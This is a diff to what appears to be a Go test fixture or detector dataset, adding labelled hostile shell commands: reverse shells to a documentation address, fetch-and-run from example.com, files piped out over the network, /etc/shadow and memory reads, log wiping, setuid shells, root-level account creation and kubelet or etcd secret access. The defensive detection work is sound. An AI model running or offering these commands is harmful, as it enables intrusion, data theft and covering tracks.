@@ -190,6 +190,46 @@ denial_of_service_tool|/usr/sbin/hping3 --flood -S example.com
 bandwidth_sold|/usr/local/bin/cli start accept --token x --traffmonetizer
 hidden_file_removed|/bin/rm -f /tmp/.p /tmp/.kc
 sensitive_file_linked|/bin/ln -s /etc/shadow /app/static/x
+decoded_and_run|/bin/sh -c "echo aWQK | busybox base64 -d | busybox sh"
+download_piped_to_shell|/bin/sh -c "curl${IFS}-s${IFS}http://example.com/x|sh"
+download_piped_to_shell|/bin/sh -c "wget -qO- http://example.com/x | busybox ash"
+download_piped_to_shell|/usr/bin/python3 -c "import urllib.request;exec(urllib.request.urlopen('http://example.com/x').read())"
+reverse_shell|/usr/bin/nc 198.51.100.7 4444 -c bash
+reverse_shell|/usr/bin/socat TCP:198.51.100.7:4444 EXEC:/bin/bash,pty,stderr
+reverse_shell|/usr/bin/awk 'BEGIN{s="/inet/tcp/0/198.51.100.7/4444";while(1)s|&getline c}'
+process_memory_read|/bin/dd if=/dev/mem of=/tmp/m
+process_memory_read|/bin/cp /proc/kcore /tmp/k
+file_sent_out|/usr/bin/rclone copy /data remote:x
+service_made_by_command|/usr/bin/systemctl enable --now /tmp/x.service
+container_client_used|/usr/local/bin/crictl exec -it abc sh
+kernel_helper_escape|/bin/mount -t cgroup -o rdma cgroup /tmp/cgrp
+setuid_files_searched|/usr/bin/find / -perm -4000 -type f
+shadow_read|/bin/cat /etc/./shadow
+setuid_made|/bin/chmod ug=rwxs /tmp/s
+setuid_made|/bin/chmod g+s,u+s /tmp/s
+setuid_made|/usr/bin/install -m 4755 /bin/sh /tmp/s
+logs_wiped|/bin/cp /dev/null /var/log/auth.log
+logs_wiped|/usr/bin/find /var/log -type f -delete
+logs_wiped|/bin/sed -i /203/d /var/log/auth.log
+logs_wiped|/bin/dd if=/dev/null of=/var/log/syslog
+defences_switched_off|/etc/init.d/auditd stop
+user_added_with_rights|/usr/sbin/useradd --uid 0 --non-unique eve
+user_added_with_rights|/bin/sh -c "echo 'eve ALL=(ALL) NOPASSWD:ALL' >> /etc/sudoers"
+user_added_with_rights|/bin/sh -c "echo root:x | chpasswd"
+cron_changed_by_command|/bin/cp x /etc/cron.hourly/x
+cron_changed_by_command|/bin/sh -c "echo /tmp/k | at now + 1 minute"
+network_scanned|/usr/bin/fping -a -g 10.0.0.0/24
+reverse_shell|/bin/sh -c "telnet 198.51.100.7 4444 | /bin/bash | telnet 198.51.100.7 4445"
+reverse_shell|/bin/busybox telnetd -l /bin/sh -p 4444
+reverse_shell|/usr/bin/nc 198.51.100.7 4444 -e/bin/sh
+reverse_shell|/usr/bin/node -e "require('net').connect(4444,'h',function(){this.pipe(require('child_process').spawn('sh').stdin)})"
+file_sent_out|/bin/sh -c "tar c /data | nc 198.51.100.7 4444"
+file_sent_out|/bin/bash -c "cat /data/x > /dev/tcp/198.51.100.7/443"
+script_from_shared_memory|/bin/sh /dev/shm/x
+setuid_files_searched|/usr/bin/find / -user root -perm -u=s
+kubelet_asked_by_command|/usr/bin/curl -k https://10.0.0.5:10250/run/kube-system/a/b -d cmd=id
+kubelet_asked_by_command|/usr/bin/etcdctl get /registry/secrets --prefix
+shell_profile_changed_by_command|/bin/sh -c "echo '/tmp/k &' >> /root/.bashrc"
 `
 
 func process(line string) []byte {
